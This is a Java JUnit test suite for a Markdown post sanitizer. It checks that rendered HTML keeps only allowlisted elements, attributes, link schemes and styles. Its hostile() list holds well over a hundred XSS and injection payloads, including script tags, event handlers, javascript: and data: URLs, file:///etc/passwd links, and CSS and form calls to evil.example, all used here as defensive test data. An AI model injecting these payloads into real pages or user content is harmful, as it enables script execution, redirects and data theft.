package hoego.markdown;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** Nothing that a post writes runs, loads, covers the window or freezes its layout. */
@Timeout(60)
class SafetyTest {
  private static final Set<String> ELEMENTS =
      Set.of(
          ("a abbr address article aside b bdi bdo big blockquote br caption center cite code col"
                  + " colgroup dd del details dfn div dl dt em figcaption figure font footer h1 h2"
                  + " h3 h4 h5 h6 header hr i img input ins kbd li main mark nav ol p pre q rp rt"
                  + " ruby s samp section small span strike strong sub summary sup table tbody td"
                  + " tfoot th thead time tr tt u ul var wbr")
              .split(" "));

  /** Attributes of any element. */
  private static final Set<String> ATTRIBUTES =
      Set.of("class", "title", "dir", "id", "lang", "align", "valign", "style");

  private static final Map<String, Set<String>> OWN =
      Map.ofEntries(
          Map.entry("a", Set.of("href", "name")),
          Map.entry("img", Set.of("src", "alt", "width", "height")),
          Map.entry("input", Set.of("type", "checked", "disabled")),
          Map.entry("td", Set.of("colspan", "rowspan", "width", "height", "bgcolor")),
          Map.entry("th", Set.of("colspan", "rowspan", "width", "height", "bgcolor")),
          Map.entry("tr", Set.of("bgcolor")),
          Map.entry(
              "table",
              Set.of("border", "cellpadding", "cellspacing", "bgcolor", "width", "height")),
          Map.entry("col", Set.of("span", "width", "height")),
          Map.entry("colgroup", Set.of("span")),
          Map.entry("div", Set.of("width", "height")),
          Map.entry("hr", Set.of("width", "height")),
          Map.entry("ol", Set.of("start", "type", "reversed", "value")),
          Map.entry("ul", Set.of("type")),
          Map.entry("li", Set.of("value", "type")),
          Map.entry("details", Set.of("open")),
          Map.entry("font", Set.of("color", "size", "face")),
          Map.entry("time", Set.of("datetime")),
          Map.entry("del", Set.of("datetime")),
          Map.entry("ins", Set.of("datetime")));

  private static final Pattern LINK =
      Pattern.compile(
          "(?:(?i:https?|mailto|tel):.*|(?![a-zA-Z][a-zA-Z0-9+.-]*:|//|[/\\\\]*\\\\).*)");
  private static final Pattern STYLE_REFUSED =
      Pattern.compile(
          "(?i)position|z-index|url|expression|import|behavior|binding|shadow|outline|transform"
              + "|\\\\|/\\*|:\\s*-|\\s-\\d|@|(?:top|left|right|bottom|inset)\\s*:");

  static List<String> hostile() {
    return List.of(
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<script\n>alert(1)</script\n>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script>alert(1)",
        "<svg><script>alert(1)</script></svg>",
        "<svg onload=alert(1)>",
        "<svg><use href=\"#a\"/><use href=\"data:image/svg+xml,x\"/></svg>",
        "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1"
            + " onerror=alert(1)&gt;\">",
        "<p onclick=alert(1) onmouseover='x' ONFOCUS=x>글</p>",
        "<p/onclick=alert(1)>글</p>",
        "<p \nonclick\n=\n\"alert(1)\">글</p>",
        "<details open ontoggle=alert(1)><summary>글</summary></details>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"x\" \"onerror=alert(1)\">",
        "<img src=x onerror=alert(1)//",
        "<img name=getElementById src=x>",
        "<img dynsrc=javascript:alert(1) lowsrc=javascript:alert(1)>",
        "<image src=javascript:alert(1)>",
        "<a href=javascript:alert(1)>글</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">글</a>",
        "<a href=\"java\tscript:alert(1)\">글</a>",
        "<a href=\"java&#10;script:alert(1)\">글</a>",
        "<a href=\"java&Tab;script&colon;alert(1)\">글</a>",
        "<a href=\"&#1;javascript:alert(1)\">글</a>",
        "<a href=\"&#106;&#x61;vascript:alert(1)\">글</a>",
        "<a href=\" javascript&#58;alert(1)\">글</a>",
        "<a href=\"javascript:&#x2028;alert(1)\">글</a>",
        "<a href=vbscript:x>글</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">글</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">글</a>",
        "<a href=\"view-source:file:///etc/passwd\">글</a>",
        "<a href=\"file:///etc/passwd\">글</a>",
        "<a href=\"FILE:C:/x\">글</a>",
        "<a href=\"jar:file:///x!/y\">글</a>",
        "<a href=\"\\\\server\\share\">글</a>",
        "<a href=\"/\\server\\share\">글</a>",
        "<a href=\"/&Tab;/server/share\">글</a>",
        "<a href=\"//server/share\">글</a>",
        "<a href=\"preview://post/secret\">글</a>",
        "<a href=\"http://a\" ping=\"http://b\" target=_blank download>글</a>",
        "[글](javascript:alert(1))",
        "[글](<java\tscript:alert(1)>)",
        "[글](&#106;avascript:alert(1))",
        "[글](data:text/html,x)",
        "[글](file:///etc/passwd)",
        "[글][1]\n\n[1]: javascript:alert(1)",
        "<javascript:alert(1)>",
        "![글](javascript:alert(1))",
        "![글](data:image/svg+xml;base64,PHN2Zz4=)",
        "![글](data:text/html,x)",
        "![글](file:///etc/passwd)",
        "![글](\\\\\\\\server\\share\\a.png)",
        "<img src=\"file://server/share/a.png\">",
        "<img src=\"\\\\server\\share\\a.png\">",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
        "<base href=https://evil.example/>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<form action=https://evil.example><input name=a><button"
            + " formaction=javascript:x>글</button></form>",
        "<input type=text value=x><input type=image src=https://evil.example><input type=checkbox"
            + " onclick=x>",
        "<input type=CHECKBOX autofocus onfocus=alert(1)>",
        "<object data=https://evil.example type=text/html><param name=a></object>",
        "<object data=javascript:alert(1)></object>",
        "<embed src=javascript:alert(1)>",
        "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<iframe src=\"data:text/html,x\"></iframe>",
        "<frameset><frame src=https://evil.example></frameset>",
        "<applet code=x></applet><marquee onstart=x>글</marquee><keygen><isindex>",
        "<video poster=https://evil.example/x.png><source src=x onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1) autoplay></audio>",
        "<video><track src=https://evil.example></video>",
        "<style>@import 'https://evil.example'; body{display:none}</style>",
        "<style>body{background:url(https://evil.example)}",
        "<p style=\"background:url(https://evil.example)\">글</p>",
        "<p style=\"background:u\\72l(https://evil.example)\">글</p>",
        "<p style=\"background-image:url('preview://a')\">글</p>",
        "<p style=\"width:expression(alert(1))\">글</p>",
        "<p style=\"behavior:url(x);-moz-binding:url(x)\">글</p>",
        "<p style=\"@import 'x';color:red\">글</p>",
        "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:9\">글</div>",
        "<div style=\"posi\\74ion:absolute\">글</div>",
        "<div style=\"posi/**/tion:absolute;inset:0\">글</div>",
        "<div style=\"margin:-500px -9em;margin-top:-99px;text-indent:-9999px\">글</div>",
        "<div style=\"box-shadow:0 0 0 9999px #000;outline:9999px solid\">글</div>",
        "<div style=\"transform:scale(99);filter:url(x);animation:a 1s;content:'x'\">글</div>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<template><img src=x onerror=alert(1)></template>",
        "<template shadowrootmode=open><script>alert(1)</script></template><slot"
            + " onslotchange=x></slot>",
        "<xmp><img src=x onerror=alert(1)></xmp>",
        "<plaintext><img src=x onerror=alert(1)>",
        "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
        "<textarea></textarea><img src=x onerror=alert(1)>",
        "<title></title><img src=x onerror=alert(1)>",
        "<noembed></noembed><noframes><img src=x onerror=alert(1)></noframes>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<!--><script>alert(1)</script>",
        "<!-- --!><img src=x onerror=alert(1)> -->",
        "<!--[if IE]><script>alert(1)</script><![endif]-->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<?xml-stylesheet href=x?><?php echo ?>",
        "<!DOCTYPE html [<!ENTITY x \"y\">]>",
        "<p title=\"<img src=x onerror=alert(1)>",
        "<p title='><img src=x onerror=alert(1)>'>글</p>",
        "<a href=\"x\"onclick=alert(1)>글</a>",
        "<div><p><a href='<b onclick=x'>글</div></p>",
        "<table><script>alert(1)</script><tr><td onclick=x><form><table><img src=x"
            + " onerror=y></table>",
        "<b <script>alert(1)</script>>글</b>",
        "<<img src=x onerror=alert(1)>",
        "<img\u0000 src=x onerror=alert(1)>",
        "<img\u000bsrc=x\u000conerror=alert(1)>",
        "<ſcript>alert(1)</ſcript>",
        "<a:b xmlns:a=x onclick=y><html:script>alert(1)</html:script></a:b>",
        "<body onload=alert(1) background=https://evil.example>",
        "<html manifest=x><head><title>x</title></head>",
        "<select autofocus onfocus=x><option>글</select><dialog open>글</dialog>",
        "<p contenteditable autofocus accesskey=x tabindex=1 draggable=true slot=x is=y"
            + " part=z>글</p>",
        "<a id=hoego-post name=hoego-header class='hoego-frame a HOEGO-x'>글</a>",
        "<p id=\"&#104;oego-post\" class=\"&#x68;oego-notice\">글</p>",
        "## hoego-post",
        "<td colspan=1000 rowspan=65534>",
        "<table>" + "<tr><td colspan=1000 rowspan=65534>글".repeat(30) + "</table>",
        "<table><colgroup span=65534><col span=99999999999><tr><td colspan=-5"
            + " rowspan=0x9>글</table>",
        "<table width=99999999 height=9e9 border=1><tr><th colspan=\"50\" rowspan=\" 50"
            + " \">글</table>",
        "<div>".repeat(5_000) + "글",
        "<table><tr><td>".repeat(1_000) + "글",
        "<b><i><a href=x>".repeat(1_000) + "글",
        "> ".repeat(5_000) + "글",
        "* ".repeat(5_000) + "글",
        "<svg>".repeat(5_000) + "글");
  }

  static Stream<String> hostileAnywhere() {
    return hostile().stream()
        .flatMap(
            text ->
                Stream.of(
                    text,
                    "앞 " + text + " 뒤",
                    "- 항목\n\n  " + text + "\n\n뒤\n",
                    "<div>\n\n" + text + "\n\n</div>\n"));
  }

  @ParameterizedTest
  @MethodSource("hostileAnywhere")
  void keepsOnlyWhatIsAllowed(String text) {
    for (Flavour flavour : Rendered.FLAVOURS) {
      RenderedPost post = Rendered.of(text, flavour);
      for (Block block : post.blocks()) {
        allAllowed(Rendered.parsed(block.html()));
      }
      allAllowed(Rendered.parsed(post.html()));
      assertThat(post.html().toLowerCase(Locale.ROOT)).doesNotContain("<script", "<style", "<!--");
    }
  }

  @Test
  void hasSixtyHostileFragmentsAtLeast() {
    assertThat(hostile()).doesNotHaveDuplicates().hasSizeGreaterThan(60);
  }

  @Test
  void isOneElementPerElementWhereverItStands() {
    for (String text : hostile()) {
      for (Flavour flavour : Rendered.FLAVOURS) {
        String html = Rendered.of(text, flavour).html();
        String again = Rendered.parsed(html).html();
        assertThat(Rendered.parsed(again).html()).isEqualTo(again);
      }
    }
  }

  private static void allAllowed(Element body) {
    for (Element element : body.getAllElements()) {
      if (element == body) {
        continue;
      }
      String name = element.normalName();
      assertThat(ELEMENTS).contains(name);
      for (Attribute attribute : element.attributes()) {
        String key = attribute.getKey();
        String value = attribute.getValue();
        assertThat(ATTRIBUTES.contains(key) || OWN.getOrDefault(name, Set.of()).contains(key))
            .as("%s of %s", key, name)
            .isTrue();
        switch (key) {
          case "href", "src" -> assertThat(value).matches(LINK);
          case "style" -> assertThat(value).doesNotContainPattern(STYLE_REFUSED);
          case "colspan", "rowspan", "span" -> assertThat(Integer.parseInt(value)).isBetween(1, 50);
          case "id", "name" ->
              assertThat(value.toLowerCase(Locale.ROOT)).doesNotStartWith("hoego-");
          case "type" -> assertThat(value).doesNotContainIgnoringCase("image");
          case "class" -> ownClasses(element, value);
          default -> assertThat(key).doesNotStartWith("on");
        }
      }
      if (name.equals("input")) {
        assertThat(element.attr("type")).isEqualTo("checkbox");
        assertThat(element.hasAttr("disabled")).isTrue();
      }
    }
  }

  /** Hoego's own classes stand on the frames and the notice that it makes and nowhere else. */
  private static void ownClasses(Element element, String value) {
    Matcher own = Pattern.compile("(?i)\\bhoego-(\\S+)").matcher(value);
    while (own.find()) {
      if (element.normalName().equals("p")) {
        assertThat(value).isEqualTo("hoego-notice");
        assertThat(element.text()).isEqualTo(Rendered.WORDS.tooComplex());
      } else {
        if (!element.normalName().equals("span")) {
          assertThat(element.normalName()).isEqualTo("a");
          assertThat(value).matches("hoego-card hoego-(video|sound|page)");
          assertThat(element.attr("href")).matches("https?://.*|x");
        }
        assertThat(own.group(1))
            .isIn(
                "frame", "missing", "remote", "unshown", "alt", "place", "card", "video", "sound",
                "page", "address");
      }
    }
  }

  @Test
  void keepsAPostsClassesButNoneOfHoegosOwn() {
    Element page =
        Rendered.tree(
            "<p class='a hoego-frame b' id='hoego-post'><i class='hoego-x' id=hoego>글</i></p>");
    assertThat(page.select("p").attr("class")).isEqualTo("a b");
    assertThat(page.select("p").hasAttr("id")).isFalse();
    assertThat(page.select("i").hasAttr("class")).isFalse();
    assertThat(page.select("i").attr("id")).isEqualTo("hoego");
  }

  @Test
  void givesNoImageAnAddressThatNobodyDecidedOn() {
    String html =
        HtmlCleaner.clean("<img src='preview://a'><img src='b.png'>", Deadline.in(60_000));
    assertThat(html).doesNotContain("src");
  }

  @Test
  void keepsStylesThatStayInTheirPlace() {
    assertThat(
            Rendered.tree("<p style='color:red;text-align:center;margin:1em auto;float:left'>글</p>")
                .select("p")
                .attr("style"))
        .isEqualTo("color:red;text-align:center;margin:1em auto;float:left");
  }

  @Test
  void narrowsSpansToTheTable() {
    Element page =
        Rendered.tree("<table><tr><td colspan=3 rowspan=9>가<td>나</tr><tr><td>다</tr></table>");
    assertThat(page.select("td[colspan=3][rowspan=2]").text()).isEqualTo("가");
    Element wide = Rendered.tree("<table>" + "<tr><td colspan=50 rowspan=50>글".repeat(2_000));
    int covered = 0;
    for (Element cell : wide.select("td[colspan]")) {
      covered += Integer.parseInt(cell.attr("colspan")) * Math.max(1, number(cell.attr("rowspan")));
    }
    assertThat(covered).isLessThan(100_000);
  }

  private static int number(String text) {
    return text.isEmpty() ? 1 : Integer.parseInt(text);
  }
}
